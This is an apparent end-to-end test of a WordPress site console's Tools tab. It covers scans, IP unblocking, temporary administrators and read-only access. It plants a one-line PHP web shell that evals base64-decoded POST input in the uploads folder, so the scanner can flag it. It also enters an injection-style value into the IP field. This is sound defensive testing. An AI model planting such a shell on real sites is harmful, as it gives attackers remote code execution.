// A CMS site's Tools tab in the console against a real panel and a real WordPress (testkit, the
// connector of this repository active): a scan runs as a task and its list shows it; a planted
// web shell is found by the next scan and its detail names what scored it; a hostile address is
// refused at the unblock field and a real one unblocked; a temporary administrator's password is
// shown once with its copy button, and it signs in to WordPress. A reader of the account sees
// the scans and the update policy but none of the actions (no "Edit policy"). The pages pass
// axe.
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { startWordPress, type WordPressSite } from "@steward/testkit";
import { afterAll, expect, it } from "vitest";
import { agencyBlog } from "./cms-blog.ts";
import { PASSWORD, seriousViolations, signedInPage } from "./harness.ts";
import { describeConsole, onPage, useConsole } from "./harness-console.ts";

const connector = fileURLToPath(
  new URL("../../../connectors/wordpress/steward-connector", import.meta.url),
);
const wp = await startWordPress({ plugins: [{ dir: connector }] });
afterAll(() => wp?.stop());
const shots = process.env.STEWARD_SCREENSHOTS;
const READER = "reader@example.com";

(wp ? describeConsole : describeConsole.skip)(
  "a CMS site's tools in the console",
  { timeout: 240_000 },
  () => {
    const site = wp as WordPressSite;
    const ui = useConsole({
      panel: { env: { STEWARD_LOCAL_AGENT: "0", STEWARD_OUTBOUND_ALLOW: "127.0.0.1/32" } },
      signIn: true,
    });
    const { axe } = onPage(ui);
    const api = async (method: string, path: string, body?: unknown) =>
      (await ui.panel.api(method, path, { key: ui.key, body })).body;
    const shot = async (page: typeof ui.page, name: string) => {
      if (!shots) return;
      mkdirSync(shots, { recursive: true });
      await page.screenshot({ path: `${shots}/${name}.png`, fullPage: true });
    };

    it("scans, shows a result, unblocks, makes a temporary administrator; a reader only sees", async () => {
      const { account, blog: added } = await agencyBlog(api, site);
      expect(added.can).toEqual({ refresh: true, useTools: true, manage: true });

      const page = ui.page;
      await page.goto(`${ui.panel.url}/cms-sites/${added.id}`);
      await page.getByRole("heading", { name: "Company blog" }).waitFor();
      await page.getByRole("button", { name: "Edit policy" }).waitFor();
      await page.getByRole("tab", { name: "Tools" }).click();
      await page.getByText("No scan yet.").waitFor();
      await axe();

      // the baseline, then a planted web shell found by the next scan
      const scans = page.getByRole("table", { name: "Scans of Company blog" });
      await page.getByRole("button", { name: "Run scan" }).click();
      await page.getByText(/Scanning in task/).waitFor();
      await scans.getByText("#1").waitFor({ timeout: 90_000 });
      const uploads = join(site.root, "wp-content/uploads");
      mkdirSync(uploads, { recursive: true });
      writeFileSync(join(uploads, "x.php"), "<?php\n@eval(base64_decode($_POST['x']));\n", {
        mode: 0o644,
      });
      await page.getByRole("button", { name: "Run scan" }).click();
      await scans.getByText("#2").waitFor({ timeout: 90_000 });
      await scans.getByRole("row").filter({ hasText: "#2" }).getByRole("button").click();
      const results = page.getByRole("region", { name: "Results of scan 2" });
      await results.getByText("wp-content/uploads/x.php").click();
      await results.getByText("eval of decoded code").waitFor();
      await axe();
      await shot(page, "cms-site-tools-scan");

      // unblock: a hostile value refused at its field, then an address
      const ip = page.getByLabel("IP address");
      await ip.fill("127.0.0.1;--");
      await page.getByRole("button", { name: "Unblock" }).click();
      await expect.poll(() => ip.getAttribute("aria-invalid")).toBe("true");
      await ip.fill("203.0.113.9");
      await page.getByRole("button", { name: "Unblock" }).click();
      await page.getByText("203.0.113.9 unblocked.").waitFor();

      // a temporary administrator: the password once, with a copy button; it signs in
      await page.getByRole("button", { name: "Create temporary administrator" }).click();
      await page.getByText("Copy the password now").waitFor();
      await page.getByRole("button", { name: "Copy Password" }).waitFor();
      const shown = page.locator("figure").filter({ hasText: "Password" }).locator("code");
      const user = page.locator("figure").filter({ hasText: "User name" }).locator("code");
      const [username, password] = [await user.textContent(), await shown.textContent()];
      expect(username).toMatch(/^steward-tmp-[a-f0-9]{8}$/);
      expect(password).toHaveLength(24);
      await axe();
      await shot(page, "cms-site-tools-admin");
      const login = await fetch(`${site.url}/wp-login.php`, {
        method: "POST",
        redirect: "manual",
        headers: {
          "content-type": "application/x-www-form-urlencoded",
          cookie: "wordpress_test_cookie=WP%20Cookie%20check",
        },
        body: new URLSearchParams({ log: username ?? "", pwd: password ?? "", testcookie: "1" }),
      });
      expect(login.status).toBe(302);
      expect(login.headers.getSetCookie().join("\n")).toContain("wordpress_logged_in_");

      // a reader of the account: the scans, no action
      const reader = await ui.panel.api("POST", "/api/v1/users", {
        key: ui.key,
        body: { email: READER, password: PASSWORD },
      });
      expect(reader.status, JSON.stringify(reader.body)).toBe(201);
      const grant = await ui.panel.api("POST", "/api/v1/grants", {
        key: ui.key,
        body: {
          principalType: "user",
          principalId: reader.body.id,
          scopeType: "account",
          scopeId: account.id,
          role: "read",
        },
      });
      expect(grant.status, JSON.stringify(grant.body)).toBe(200);
      const { context, page: rp } = await signedInPage(ui.browser, ui.panel, READER, ui.dialogs);
      try {
        await rp.goto(`${ui.panel.url}/cms-sites/${added.id}`);
        await rp.getByRole("heading", { name: "Company blog" }).waitFor();
        // the policy as it applies, shown; its editor and the refresh, not offered
        await rp.getByText(/— from Steward's default/).waitFor();
        for (const action of ["Check for updates", "Diagnose", "Edit policy"])
          expect([action, await rp.getByRole("button", { name: action }).count()]).toEqual([
            action,
            0,
          ]);
        expect(await seriousViolations(rp)).toEqual([]);
        await shot(rp, "cms-site-reader");
        await rp.getByRole("tab", { name: "Tools" }).click();
        await rp.getByRole("table", { name: "Scans of Company blog" }).getByText("#2").waitFor();
        for (const action of ["Run scan", "Unblock", "Create temporary administrator"])
          expect([action, await rp.getByRole("button", { name: action }).count()]).toEqual([
            action,
            0,
          ]);
        await shot(rp, "cms-site-tools-reader");
      } finally {
        await context.close();
      }
      expect(ui.dialogs).toEqual([]);
    });
  },
);
